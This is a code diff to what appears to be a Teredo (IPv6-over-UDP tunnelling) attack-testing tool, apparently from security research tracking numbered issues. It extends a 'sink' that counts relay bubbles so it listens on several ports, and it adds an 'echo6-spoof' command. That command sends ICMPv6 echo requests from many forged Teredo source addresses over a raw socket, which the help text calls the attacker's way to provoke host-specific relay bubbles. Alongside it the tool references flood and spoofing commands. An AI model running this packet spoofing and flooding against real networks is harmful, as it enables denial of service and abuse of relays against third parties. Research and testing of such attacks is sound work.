@@ -45,10 +45,16 @@ by a raw socket (IP_HDRINCL).  Each command prints one JSON object.
              [--ports-from P] [--dst TEREDO]
       From the native net: UDP datagrams of B bytes to DSTS distinct
       Teredo addresses (flags 0: restricted clients that do not exist).
-  sink       --bind IP [--port P] [--duration S]
-      A host that counts the Teredo bubbles it receives (a victim of the
-      relay's bubbles, or the server of addresses nobody answers for),
-      per IPv6 destination: how many rounds each got.
+  sink       --bind IP [--port P,...] [--duration S]
+      A host that counts the Teredo bubbles it receives on its ports (a
+      victim of the relay's bubbles, or the server of addresses nobody
+      answers for), per IPv6 destination: how many rounds each got.
+  echo6-spoof --dst IPV6 --server IP --mapped IP:PORT [--count N]
+             [--rate R]
+      From the native net (raw IPv6): echo requests to DST from N
+      Teredo sources of server SERVER and mapping MAPPED (flag bits
+      varied), so that DST's host answers N Teredo addresses (the
+      attacker's way to make a host-specific relay bubble).
   trust-fill --me IP --ports P,... --per N --relay IP [--server IP]
              [--duration S] [--interval S]
       One attacker holding both sides (issue 10 item 1): from the native
@@ -507,15 +513,28 @@ def cmd_flood6(a):
 # ---- sink ------------------------------------------------------------------------
 
 def cmd_sink(a):
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    # SO_RCVBUFFORCE (root): bursts of hundreds of bubbles
-    s.setsockopt(socket.SOL_SOCKET, 33, 16 << 20)
-    s.bind((a.bind, a.port))
-    print(json.dumps({"listening": "%s:%d" % (a.bind, a.port)}), flush=True)
+    socks = []
+    for port in a.port.split(","):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        # SO_RCVBUFFORCE (root): bursts of hundreds of bubbles
+        s.setsockopt(socket.SOL_SOCKET, 33, 16 << 20)
+        s.bind((a.bind, int(port)))
+        s.setblocking(False)
+        socks.append(s)
+    print(json.dumps({"listening": "%s:%s" % (a.bind, a.port)}), flush=True)
     per = {}
     res = {"datagrams": 0, "bytes": 0, "bubbles": 0, "other": 0}
     end = time.monotonic() + a.duration
-    for data, _ in recv_all(s, end):
+    got = []
+    while time.monotonic() < end:
+        r, _, _ = select.select(socks, [], [], end - time.monotonic())
+        for s in r:
+            while True:
+                try:
+                    got.append(s.recvfrom(65535))
+                except BlockingIOError:
+                    break
+    for data, _ in got:
         res["datagrams"] += 1
         res["bytes"] += len(data)
         pkt, _ = strip_teredo(data)
@@ -531,6 +550,34 @@ def cmd_sink(a):
     res["dsts"] = len(per)
     res["rounds"] = hist
     out(res)
+
+
+# ---- echo6-spoof ------------------------------------------------------------------
+
+def cmd_echo6_spoof(a):
+    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    dst = ipaddress.IPv6Address(a.dst).packed
+    mip, mport = ep(a.mapped)
+    ident = random.randrange(65536)
+    sent = err = 0
+    start = nxt = time.monotonic()
+    for i in range(a.count):
+        # flag bits: the 12 random ones (RFC 5991 §4), C, R, U, G clear
+        src = teredo_addr(a.server, mip, mport,
+                          ((i & 0xf00) << 2) | (i & 0xff))
+        try:
+            raw.sendto(icmp6(src, dst, 128, 0, struct.pack("!HH", ident, i)),
+                       (a.dst, 0))
+            sent += 1
+        except OSError:
+            err += 1
+        nxt += 1.0 / a.rate
+        d = nxt - time.monotonic()
+        if d > 0:
+            time.sleep(d)
+    out({"sent": sent, "errors": err,
+         "seconds": round(time.monotonic() - start, 3)})
 
 
 # ---- trust-fill -------------------------------------------------------------------
@@ -716,8 +763,14 @@ def main():
     p.add_argument("--duration", type=float, default=4)
     p = sub.add_parser("sink")
     p.add_argument("--bind", required=True)
-    p.add_argument("--port", type=int, default=TEREDO_PORT)
+    p.add_argument("--port", default=str(TEREDO_PORT))
     p.add_argument("--duration", type=float, default=10)
+    p = sub.add_parser("echo6-spoof")
+    p.add_argument("--dst", required=True)
+    p.add_argument("--server", required=True)
+    p.add_argument("--mapped", required=True)
+    p.add_argument("--count", type=int, default=500)
+    p.add_argument("--rate", type=float, default=250)
     p = sub.add_parser("trust-fill")
     p.add_argument("--me", required=True)
     p.add_argument("--ports", required=True)
@@ -736,7 +789,8 @@ def main():
      "spoof-bubble": cmd_spoof_bubble, "syn": cmd_syn,
      "rs-flood": cmd_rs_flood, "rs-probe": cmd_rs_probe,
      "flood6": cmd_flood6, "slowpeer": cmd_slowpeer, "sink": cmd_sink,
-     "trust-fill": cmd_trust_fill, "rh6": cmd_rh6}[a.cmd](a)
+     "trust-fill": cmd_trust_fill, "rh6": cmd_rh6,
+     "echo6-spoof": cmd_echo6_spoof}[a.cmd](a)
 
 
 if __name__ == "__main__":
